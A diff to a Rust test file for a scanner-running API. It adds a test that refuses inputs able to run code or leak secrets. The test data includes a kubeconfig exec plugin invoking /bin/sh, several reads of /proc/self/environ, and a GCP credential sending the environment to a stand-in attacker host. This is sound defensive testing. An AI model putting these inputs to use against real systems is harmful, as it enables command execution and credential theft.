@@ -40,6 +40,9 @@ async fn report_scanner_image(app: &TestApp) {
     app.db().report_tools(&report).await.unwrap();
 }
 
+/// A read-only policy of one filterless policy.
+const POLICY: &str = "policies: [{name: every-bucket, resource: aws.s3}]";
+
 fn fields(body: &Value) -> Vec<String> {
     body["error"]["fields"]
         .as_array()
@@ -106,7 +109,7 @@ async fn the_four_tools_are_installed_and_wait_for_a_workers_report() {
         .post_as(
             "/api/v1/tools/custodian/runs",
             ADMIN,
-            &json!({"provider": "aws", "policy": "policies: []"}),
+            &json!({"provider": "aws", "policy": POLICY}),
         )
         .await;
     assert_eq!(status, 409, "{body}");
@@ -145,7 +148,7 @@ async fn a_tool_run_is_refused_naming_the_field_and_changes_nothing() {
     let good = json!({"provider": "aws", "region": "ap-northeast-2",
                       "iam_role_arn": "arn:aws:iam::123456789012:role/SageScanner",
                       "iam_session_name": "sage-marketplace", "iam_session_duration": 1800,
-                      "iam_external_id": "tenant-7", "policy": "policies: []"});
+                      "iam_external_id": "tenant-7", "policy": POLICY});
     let with = |key: &str, value: Value| {
         let mut body = good.clone();
         body[key] = value;
@@ -208,7 +211,7 @@ async fn a_tool_run_is_refused_naming_the_field_and_changes_nothing() {
         ("scout", json!({"provider": "kubernetes"}), vec!["provider"]),
         (
             "custodian",
-            json!({"provider": "gcp", "policy": "policies: []"}),
+            json!({"provider": "gcp", "policy": POLICY}),
             vec!["provider"],
         ),
     ] {
@@ -269,6 +272,134 @@ async fn a_tool_run_is_refused_naming_the_field_and_changes_nothing() {
     assert_eq!(runs["items"].as_array().unwrap().len(), 3);
 }
 
+/// A kubeconfig whose user is `user` (YAML flow mapping).
+fn kubeconfig(user: &str) -> String {
+    format!(
+        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {{server: 'https://10.0.0.1:6443'}}\nusers:\n- name: u\n  user: {user}\ncontexts:\n- name: c\n  context: {{cluster: c, user: u}}\ncurrent-context: c\n"
+    )
+}
+
+#[tokio::test]
+async fn a_tool_input_that_could_run_code_is_refused_at_either_door_and_changes_nothing() {
+    let app = spawn_app_with(tools_env()).await;
+    report_scanner_image(&app).await;
+    let role = "arn:aws:iam::123456789012:role/SageScanner";
+    let exec = kubeconfig(
+        "{exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'env > /work/out/proof.txt']}}",
+    );
+    let external =
+        json!({"type": "external_account", "token_url": "https://attacker.example/token",
+                          "credential_source": {"file": "/proc/self/environ"}})
+        .to_string();
+    let cases = [
+        // The hole as found: a kubeconfig whose exec plugin runs a shell beside the
+        // role's credentials.
+        (
+            "prowler",
+            json!({"provider": "kubernetes", "iam_role_arn": role, "iam_session_duration": 43200, "kubeconfig": exec}),
+            vec!["iam_role_arn", "kubeconfig"],
+            "users[0].user.exec is not accepted",
+        ),
+        (
+            "prowler",
+            json!({"provider": "kubernetes", "kubeconfig": kubeconfig("{auth-provider: {name: oidc, config: {cmd-path: /bin/sh}}}")}),
+            vec!["kubeconfig"],
+            "users[0].user.auth-provider is not accepted",
+        ),
+        (
+            "prowler",
+            json!({"provider": "kubernetes", "kubeconfig": kubeconfig("{tokenFile: /proc/self/environ}")}),
+            vec!["kubeconfig"],
+            "users[0].user.tokenFile is not accepted",
+        ),
+        (
+            "scout",
+            json!({"provider": "gcp", "gcp_credentials": external}),
+            vec!["gcp_credentials"],
+            "credential_source is not accepted",
+        ),
+        (
+            "custodian",
+            json!({"iam_role_arn": role, "policy": "policies:\n- name: stop\n  resource: aws.ec2\n  actions: [stop]\n"}),
+            vec!["policy"],
+            "policies[0].actions is not accepted",
+        ),
+        (
+            "custodian",
+            json!({"iam_role_arn": role, "policy": "policies:\n- name: p\n  resource: aws.s3\n  mode: {type: periodic, schedule: 'rate(1 hour)'}\n"}),
+            vec!["policy"],
+            "policies[0].mode.schedule is not accepted",
+        ),
+        (
+            "custodian",
+            json!({"iam_role_arn": role, "policy": "policies:\n- name: p\n  resource: aws.s3\n  filters:\n  - {type: value, key: Name, op: in, value_from: {url: 'file:///proc/self/environ'}}\n"}),
+            vec!["policy"],
+            "policies[0].filters[0].value_from is not accepted",
+        ),
+        (
+            "prowler",
+            json!({"iam_role_arn": role, "compliance": ".."}),
+            vec!["compliance"],
+            "must match",
+        ),
+    ];
+    let (_, tools) = app.get_as("/api/v1/tools", ADMIN).await;
+    for (tool, body, expected, message) in cases {
+        let before = (app.audit_count().await, app.execution_count().await);
+        let (status, answer) = app
+            .post_as(&format!("/api/v1/tools/{tool}/runs"), ADMIN, &body)
+            .await;
+        assert_eq!(status, 400, "{tool} {body}: {answer}");
+        assert_eq!(fields(&answer), expected, "{answer}");
+        let text = answer.to_string();
+        assert!(text.contains(message), "{message} missing from {answer}");
+        assert!(
+            !text.contains("/proc/self/environ") && !text.contains("/bin/sh"),
+            "{answer}"
+        );
+        // The module's own route is the same door.
+        let module = entry(&tools, tool)["module_id"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        let (status, answer) = app
+            .post_as(
+                &format!("/api/v1/modules/{module}/executions"),
+                ADMIN,
+                &json!({"params": body}),
+            )
+            .await;
+        assert_eq!(status, 400, "{tool} {body}: {answer}");
+        let named: Vec<String> = expected.iter().map(|f| format!("params.{f}")).collect();
+        assert_eq!(fields(&answer), named, "{answer}");
+        assert_eq!(
+            (app.audit_count().await, app.execution_count().await),
+            before,
+            "a refusal changes nothing"
+        );
+    }
+
+    // The accepted forms run: a token kubeconfig, a service account key, a read-only
+    // policy; the role goes with the AWS run only.
+    let key = json!({"type": "service_account", "client_email": "scanner@sage-scan-1.iam.gserviceaccount.com",
+        "private_key": "-----BEGIN PRIVATE KEY-----\nTUlJRXZRSUJBREFO\n-----END PRIVATE KEY-----\n",
+        "token_uri": "https://oauth2.googleapis.com/token"})
+    .to_string();
+    for (tool, body) in [
+        (
+            "prowler",
+            json!({"provider": "kubernetes", "kubeconfig": kubeconfig("{token: kube-token-0123456789}")}),
+        ),
+        ("scout", json!({"provider": "gcp", "gcp_credentials": key})),
+        ("custodian", json!({"iam_role_arn": role, "policy": POLICY})),
+    ] {
+        let (status, answer) = app
+            .post_as(&format!("/api/v1/tools/{tool}/runs"), ADMIN, &body)
+            .await;
+        assert_eq!(status, 202, "{tool}: {answer}");
+    }
+}
+
 #[tokio::test]
 async fn only_the_roles_the_deployment_allows_may_be_assumed() {
     let mut env = tools_env();
@@ -278,8 +409,7 @@ async fn only_the_roles_the_deployment_allows_may_be_assumed() {
     );
     let app = spawn_app_with(env).await;
     report_scanner_image(&app).await;
-    let body =
-        |arn: &str| json!({"provider": "aws", "iam_role_arn": arn, "policy": "policies: []"});
+    let body = |arn: &str| json!({"provider": "aws", "iam_role_arn": arn, "policy": POLICY});
     let (status, refused) = app
         .post_as(
             "/api/v1/tools/custodian/runs",
